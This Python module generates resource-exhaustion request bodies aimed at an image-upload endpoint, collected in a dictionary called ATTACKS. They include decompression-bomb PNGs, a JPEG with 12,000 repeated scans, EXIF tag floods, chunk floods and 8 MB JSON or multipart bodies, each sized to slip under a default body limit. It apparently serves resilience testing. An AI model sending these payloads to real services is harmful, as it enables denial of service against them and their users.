"""Request bodies that cost a service far more than their sender."""

import io
import json
import re
import struct
import zlib
from collections.abc import Callable

BOUNDARY = "part"
FORM = f"multipart/form-data; boundary={BOUNDARY}"
BODY_BYTES = 7_990_000  # below the default limit


def in_form(picture: bytes) -> bytes:
    """Return a form with a picture."""
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
    return head.encode() + picture + f"\r\n--{BOUNDARY}--\r\n".encode()


def many_scans(side: int = 5000, scans: int = 12_000) -> bytes:
    """Return a progressive JPEG whose last scan, of one component, stands there again and again."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("L", (side, side), 100).save(file, "JPEG", progressive=True, quality=80)
    raw = file.getvalue()
    starts = [match.start() for match in re.finditer(b"\xff\xda", raw)]
    tables = raw.rfind(b"\xff\xc4", 0, starts[-1])
    last = raw[max(tables, starts[-2]) : -2] if tables > starts[-2] else raw[starts[-1] : -2]
    return raw[:-2] + last * (scans - len(starts)) + raw[-2:]


def png(width: int, height: int, colour_type: int = 6, bits: int = 8, *, interlaced: bool = False) -> bytes:
    """Return a PNG of zeros, whatever its size, made without the pixels."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    stream = zlib.compressobj(9)
    data = b""
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    for left, top, across, down in passes if interlaced else [(0, 0, 1, 1)]:
        columns, rows = -(-(width - left) // across), -(-(height - top) // down)
        if columns > 0 and rows > 0:
            row = bytes(1 + columns * channels * bits // 8)
            data += b"".join(stream.compress(row) for _ in range(rows))
    head = struct.pack(">IIBBBBB", width, height, bits, colour_type, 0, 0, interlaced)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data + stream.flush()) + chunk(b"IEND", b"")


def with_chunks(picture: bytes, name: bytes, content: bytes, count: int) -> bytes:
    """Return a PNG with more chunks after its head."""
    return picture[:33] + chunk(name, content) * count + picture[33:]


def chunk(name: bytes, content: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def text_bomb() -> bytes:
    """Return a small PNG with 60 texts that unpack to a megabyte each."""
    return with_chunks(png(28, 28, 0), b"zTXt", b"a\0\0" + zlib.compress(bytes(1_000_000), 9), 60)


def many_tags(count: int = 65_535) -> bytes:
    """Return a list of EXIF tags, one of which turns the picture, so that all are written anew."""
    tags = (struct.pack(">HHI4s", number, 7, 4, b"abcd") for number in range(count) if number != 0x0112)
    turned = struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0)
    return b"MM\0*" + struct.pack(">IH", 8, count) + turned + b"".join(tags) + bytes(4)


def tagged_png() -> bytes:
    """Return a small PNG with many tags."""
    return with_chunks(png(28, 28, 0), b"eXIf", many_tags(), 1)


def tagged_jpeg() -> bytes:
    """Return a small JPEG with many tags."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (64, 48)).save(file, "JPEG")
    raw, tags = file.getvalue(), many_tags()
    pieces = [b"Exif\0\0" + tags[start : start + 65_000] for start in range(0, len(tags), 65_000)]
    segments = [b"\xff\xe1" + struct.pack(">H", 2 + len(piece)) + piece for piece in pieces]
    return raw[:2] + b"".join(segments) + raw[2:]


def many_profiles(count: int = 19_000) -> bytes:
    """Return a small PNG with many texts of the kind that may say which way is up."""
    return with_chunks(png(28, 28, 0), b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + b"x" * 350, count)


def empty_blocks(width: int = 28, height: int = 28, size: int = BODY_BYTES - 1000) -> bytes:
    """Return a grey PNG whose pixels come after blocks of data that hold nothing but their tables."""
    order = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
    lengths = "".join(f"{ {18: 1, 1: 2, 0: 2}.get(number, 0):03b}"[::-1] for number in order)
    tables = "0" + f"{127:07b}"[::-1] + "0" + f"{107:07b}"[::-1] + "1111"  # 256 of nothing, the end, a distance
    bits = ("0" + "01" + "0" * 10 + f"{14:04b}"[::-1] + lengths + tables + "0") * 8
    blocks = int(bits[::-1], 2).to_bytes(len(bits) // 8, "little")
    stream = zlib.compressobj(wbits=-15)
    rows = bytes((1 + width) * height)
    data = b"\x78\x9c" + blocks * (size // len(blocks)) + stream.compress(rows) + stream.flush()
    data += struct.pack(">I", zlib.adler32(rows))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def empty_lists(size: int = BODY_BYTES) -> bytes:
    """Return JSON of empty lists."""
    return b'{"image": [' + b",".join([b"[]"] * (size // 3 - 5)) + b"]}"


def tiny_parts() -> bytes:
    """Return a form of empty parts."""
    part = f"--{BOUNDARY}\r\na:b\r\n\r\n\r\n".encode()
    return part * (BODY_BYTES // len(part)) + f"--{BOUNDARY}--\r\n".encode()


def many_images(count: int = 1024) -> bytes:
    """Return JSON of images in its longest form."""
    return json.dumps({"image": [[[[0]] * 28] * 28] * count}, separators=(",", ":")).encode()


# Name, path, content type and body of each attack.
ATTACKS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "JPEG of 12,000 scans": (FORM, lambda: in_form(many_scans())),
    "PNG of 5000x5000": (FORM, lambda: in_form(png(5000, 5000))),
    "PNG of 25,000,000x1": (FORM, lambda: in_form(png(25_000_000, 1, 0))),
    "60 texts of 1 MB in a PNG": (FORM, lambda: in_form(text_bomb())),
    "65,535 tags in a PNG": (FORM, lambda: in_form(tagged_png())),
    "65,535 tags in a JPEG": (FORM, lambda: in_form(tagged_jpeg())),
    "19,000 profiles in a PNG": (FORM, lambda: in_form(many_profiles())),
    "19,000 empty IDAT in a PNG": (FORM, lambda: in_form(with_chunks(png(28, 28, 0), b"IDAT", b"", 19_000))),
    "8 MB of empty blocks in a PNG": (FORM, lambda: in_form(empty_blocks())),
    "and in a larger PNG": (FORM, lambda: in_form(empty_blocks(2000, 2000, BODY_BYTES - 10_000))),
    "32 kB of [],[],[]": ("application/json", lambda: empty_lists(31_990)),
    "8 MB of [],[],[]": ("application/json", empty_lists),
    "8 MB of form parts": (FORM, tiny_parts),
    "8 MB of a picture": (FORM, lambda: in_form(png(3000, 3000, 0) + bytes(BODY_BYTES - 100_000))),
    "largest PNG": (FORM, lambda: in_form(png(5000, 4500))),
    "largest PNG, interlaced": (FORM, lambda: in_form(png(3000, 3000, interlaced=True))),
    "1,024 images as JSON": ("application/json", many_images),
}
